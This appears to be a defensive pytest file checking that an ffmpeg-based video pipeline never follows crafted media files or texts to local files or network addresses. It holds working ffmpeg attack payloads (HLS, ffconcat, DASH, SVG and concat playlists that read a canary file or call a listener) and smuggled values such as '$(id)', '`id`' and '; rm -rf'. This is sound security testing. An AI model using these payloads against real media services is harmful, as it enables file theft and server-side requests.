"""Files and texts that try to make ffmpeg open something else: nothing of it is ever opened.

Two traps: a file with a canary, whose content may come out nowhere, and a listener that nobody
may call. The files are opened without a namespace around them too, so that it's not the missing
network alone that holds them.
"""

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from samples import FFMPEG, X264, ffmpeg, make_samples
from traps import CANARY, Listener

from adapters.ffmpeg import FfmpegEngine, FfmpegQuarantine
from adapters.ffmpeg.inputs import MUSIC_FORMATS, given
from adapters.ffmpeg.probe import CLIP_FORMATS
from adapters.ffmpeg.process import FfmpegProcess
from adapters.libass import LibassTypesetter
from adapters.media_folder import MediaFolder
from adapters.music import FolderMusic
from domain.errors import MediaUnreadable, RenderFailed
from domain.generation.brief import CaptionChoice
from domain.generation.captions import Cue, CueWord
from domain.generation.palettes import PALETTES
from domain.generation.ports import SegmentPlan, VisualRequest
from domain.generation.storyboard import (
    ClipBackdrop,
    DrawnBackdrop,
    FactContent,
    Reveal,
    SceneBoard,
    Shot,
    StillBackdrop,
    Storyboard,
)

HLS = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:1\n{lines}\n#EXT-X-ENDLIST\n"
SVG = (
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" width="640" height="480">'
    '<image xlink:href="{target}" width="640" height="480"/></svg>'
)
MPD = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
    'mediaPresentationDuration="PT5S"><Period><AdaptationSet mimeType="video/mp4">'
    '<Representation id="1" bandwidth="1000"><BaseURL>{target}</BaseURL></Representation>'
    "</AdaptationSet></Period></MPD>"
)

ATTACKS: dict[str, str] = {
    # name: what stands in the file; {file} is the canary's path, {web} the listener's address
    "hls of a file": HLS.format(lines="#EXTINF:1,\nfile://{file}"),
    "hls of an address": HLS.format(lines="#EXTINF:1,\nhttp://{web}/a.ts"),
    "hls with a key": HLS.format(
        lines='#EXT-X-KEY:METHOD=AES-128,URI="http://{web}/k"\n#EXTINF:1,\nfile://{file}'
    ),
    "hls that joins": HLS.format(lines="#EXTINF:1,\nconcat:http://{web}/header.m3u8|file://{file}"),
    "hls with a map": HLS.format(lines='#EXT-X-MAP:URI="http://{web}/m"\n#EXTINF:1,\n{file}'),
    "hls of hls": HLS.format(lines="#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://{web}/b.m3u8"),
    "hls of a part": HLS.format(lines="#EXTINF:1,\nsubfile,,start,0,end,64,,:{file}"),
    "ffconcat of a file": "ffconcat version 1.0\nfile {file}\n",
    "ffconcat of an address": "ffconcat version 1.0\nfile http://{web}/a.mp4\n",
    "ffconcat of options": "ffconcat version 1.0\nfile {file}\noption safe 0\nduration 5\n",
    "dash": MPD.format(target="http://{web}/a.mp4"),
    "svg of a file": SVG.format(target="file://{file}"),
    "svg of an address": SVG.format(target="http://{web}/a.png"),
    "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
    "m=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
    "rtsp redirect": "RTSPtext\nrtsp://{web}/a\n",
    "asx": '<asx version="3.0"><entry><ref href="http://{web}/a"/></entry></asx>',
    "a protocol": "concat:http://{web}/a|{file}",
    "a graph": "movie={file}",
    "image by name": "{file}",
}
SUFFIXES = (".mp4", ".mov", ".mkv", ".webm", ".jpg", ".png", ".webp")
SOUND_SUFFIXES = (".mp3", ".wav", ".flac", ".m4a", ".ogg")


@pytest.fixture
def fill(tmp_path: Path, secret: Path, listener: Listener) -> Callable[..., Path]:
    """A folder with every attack under every suffix."""

    def made(suffixes: tuple[str, ...]) -> Path:
        folder = tmp_path / "attacks"
        folder.mkdir()
        for name, text in ATTACKS.items():
            body = text.replace("{file}", str(secret)).replace("{web}", listener.address)
            for suffix in suffixes:
                (folder / f"{name}{suffix}").write_text(body)
        return folder

    return made


def ask(name: str) -> VisualRequest:
    return VisualRequest(terms=[], media=name, milliseconds=3_000, width=1080, height=1920)


def test_the_traps_work(tmp_path: Path, secret: Path, listener: Listener) -> None:
    """An ffmpeg that is started as one usually is falls into them."""
    text = ATTACKS["hls of an address"].replace("{web}", listener.address)
    (tmp_path / "a.mp4").write_text(text)
    allowing = ["-protocol_whitelist", "file,http,tcp", "-allowed_extensions", "ALL"]
    reading = ["-f", "hls", *allowing, "-i", str(tmp_path / "a.mp4")]
    told = subprocess.run(
        [FFMPEG, "-nostdin", *reading, "-f", "null", "-"],
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert listener.calls > 0, told.stderr


@pytest.mark.parametrize("isolated", [True, False], ids=["in quarantine", "by itself"])
async def test_no_file_of_the_media_folder_leads_anywhere(
    fill: Callable[..., Path],
    listener: Listener,
    quarantine: FfmpegQuarantine,
    caplog: pytest.LogCaptureFixture,
    isolated: bool,
) -> None:
    folder = fill(SUFFIXES)
    source = MediaFolder(folder, quarantine if isolated else None)

    assert source.examine() == 0
    problems = source.problems()
    assert len(problems) == len(ATTACKS) * len(SUFFIXES)
    for name, _ in problems:
        with pytest.raises(MediaUnreadable) as caught:
            await source.search(ask(name))
        assert CANARY not in caught.value.message
    assert CANARY not in str(problems) + caplog.text
    assert listener.calls == 0


@pytest.mark.parametrize("isolated", [True, False], ids=["in quarantine", "by itself"])
def test_no_file_of_the_music_folder_leads_anywhere(
    fill: Callable[..., Path],
    listener: Listener,
    quarantine: FfmpegQuarantine,
    caplog: pytest.LogCaptureFixture,
    isolated: bool,
) -> None:
    library = FolderMusic(fill(SOUND_SUFFIXES), quarantine if isolated else None)

    assert library.tracks() == []
    assert len(library.problems()) == len(ATTACKS) * len(SOUND_SUFFIXES)
    assert CANARY not in str(library.problems()) + caplog.text
    assert listener.calls == 0


@pytest.mark.parametrize("attack", ATTACKS)
async def test_ffmpeg_itself_refuses_what_would_get_past_the_probe(
    tmp_path: Path, secret: Path, listener: Listener, attack: str
) -> None:
    body = ATTACKS[attack].replace("{file}", str(secret)).replace("{web}", listener.address)
    (tmp_path / "attack.mp4").write_text(body)
    process = FfmpegProcess(Path(FFMPEG), 10)

    for formats in (CLIP_FORMATS, MUSIC_FORMATS):
        arguments = given(str(tmp_path / "attack.mp4"), formats)
        with pytest.raises(RenderFailed) as caught:
            await process.run([*arguments, "-f", "null", "-"], folder=tmp_path)
        assert CANARY not in str(caught.value.details)
    assert listener.calls == 0


async def test_a_movie_that_names_another_file_for_its_picture_doesnt_get_it(
    tmp_path: Path, quarantine: FfmpegQuarantine
) -> None:
    """QuickTime's data references: a sample that lies in another file."""
    folder = tmp_path / "media"
    folder.mkdir()
    ffmpeg("-f", "lavfi", "-i", "testsrc2=s=64x48:d=1", *X264, tmp_path / "other.mov")
    body = bytearray((tmp_path / "other.mov").read_bytes())
    at = body.index(b"url \x00\x00\x00\x01")
    body[at : at + 8] = b"alis\x00\x00\x00\x00"  # not "in this file" any more
    del body[body.index(b"mdat") + 4 :]
    (folder / "leading.mov").write_bytes(body)

    source = MediaFolder(folder, quarantine)
    assert source.examine() == 0


# -- names -----------------------------------------------------------------------------------------

NAMES = (
    "concat:a|b",
    "http:x",
    "pipe:0",
    "-y",
    "-i secret",
    "%03d",
    "%{pts}",
    "a'b",
    'a"b',
    "a\\b",
    "a;b",
    "a,b=c:d",
    "[in]a[out]",
    "movie=b",
    "$(id)",
    "`id`",
    "subfile,,start,0,end,1,,:b",
    "a  b ",
    "b..",
    "~",
    "é😀",
)


async def test_names_are_names(tmp_path: Path, quarantine: FfmpegQuarantine) -> None:
    samples = make_samples(tmp_path / "samples")
    folder, fetched = tmp_path / "media", tmp_path / "fetched"
    folder.mkdir()
    fetched.mkdir()
    for name in NAMES:
        (folder / f"{name}.mp4").write_bytes(samples["mp4"])
        (folder / f"{name}.png").write_bytes(samples["png"])
    source = MediaFolder(folder, quarantine)
    for name in NAMES:
        for suffix in (".mp4", ".png"):
            [found] = await source.search(ask(name + suffix))
            path = await source.fetch(found, fetched)
            assert path.parent == fetched
            assert path.stem.isalnum()


async def test_clips_are_rendered_under_any_name(
    tmp_path: Path, quarantine: FfmpegQuarantine
) -> None:
    samples = make_samples(tmp_path / "samples")
    (tmp_path / "fonts").mkdir()
    engine = FfmpegEngine(tmp_path / "fonts", quarantine=quarantine)
    media = {}
    for number, name in enumerate(NAMES[:8]):
        for kind, suffix in (("c", ".mp4"), ("s", ".png")):
            path = tmp_path / f"{name}{suffix}"
            path.write_bytes(samples[suffix[1:]])
            media[f"{kind}{number}"] = path
    plan = SegmentPlan(
        width=64,
        height=96,
        frames=2 * len(media),
        palette=PALETTES["midnight"],
        backdrops=[
            (
                2,
                ClipBackdrop(media=key, name=path.name)
                if key.startswith("c")
                else StillBackdrop(media=key, name=path.name, variant=0),
            )
            for key, path in media.items()
        ],
        ass="[Script Info]\nScriptType: v4.00+\n\n[Events]\nFormat: Layer, Start, End, Text\n",
    )
    await engine.render_segment(plan, media, tmp_path / "out.ts", lambda _: None)
    assert (tmp_path / "out.ts").stat().st_size > 0


# -- texts -----------------------------------------------------------------------------------------

TEXTS = (
    "movie={file}",
    "x',movie={file}[out]",
    "subtitles={file}",
    "ass={file}:fontsdir=/",
    "[0:v]drawtext=textfile={file}",
    "%{{pts}} %{{eif}} %{{expr:1}} %d %s %n",
    "a:b\\:c\\\\:d'e\\'f",
    "; rm -rf {file}",
    "file '{file}'",
    "http://{web}/a",
    "-i {file} -f lavfi",
    "\\\\{web}\\share",
)


@pytest.fixture(scope="module")
def typesetter(tmp_path_factory: pytest.TempPathFactory) -> LibassTypesetter:
    return LibassTypesetter(tmp_path_factory.getbasetemp() / "typesetter-fonts")


async def test_no_text_reaches_an_argument_and_every_text_is_drawn(
    tmp_path: Path, secret: Path, listener: Listener, typesetter: LibassTypesetter
) -> None:
    notes = tmp_path / "arguments.jsonl"
    script = tmp_path / "noting-ffmpeg"
    script.write_text(
        f"#!{sys.executable} -IS\nimport json, os, sys\n"
        f"with open({str(notes)!r}, 'a') as notes: notes.write(json.dumps(sys.argv[1:]) + '\\n')\n"
        f"os.execv({FFMPEG!r}, ['ffmpeg', *sys.argv[1:]])\n"
    )
    script.chmod(0o755)
    engine = FfmpegEngine(typesetter.fonts().folder, executable=script)
    for number, template in enumerate(TEXTS):
        text = template.format(file=secret, web=listener.address)
        board = _board(text)
        plan = SegmentPlan(
            width=270,
            height=480,
            frames=60,
            palette=board.palette,
            backdrops=[(60, DrawnBackdrop(variant=0))],
            ass=typesetter.scene_track(board, board.scenes[0]),
        )
        await engine.draw_still(plan, 50, {}, tmp_path / f"{number}.jpg")
    arguments = notes.read_text()
    assert str(secret) not in arguments
    assert listener.address not in arguments
    assert CANARY not in arguments
    assert len(arguments.splitlines()) == len(TEXTS)
    assert len({json.dumps(line) for line in arguments.splitlines()}) == 1, "all runs are alike"
    assert listener.calls == 0


def _board(text: str) -> Storyboard:
    cue = Cue(
        start=0,
        end=60,
        lines=[[CueWord(text=word, start=0, end=60) for word in text.split()]],
    )
    shot = Shot(
        start=0,
        end=60,
        content=FactContent(groups=[Reveal(text[:60], 0)]),
        backdrop=DrawnBackdrop(variant=0),
    )
    return Storyboard(
        title=text[:90],
        language="en",
        width=270,
        height=480,
        seed=7,
        palette=PALETTES["midnight"],
        captions=CaptionChoice(style="highlight"),
        scenes=[SceneBoard(scene=0, frames=60, heading=text[:80], shots=[shot], cues=[cue])],
    )
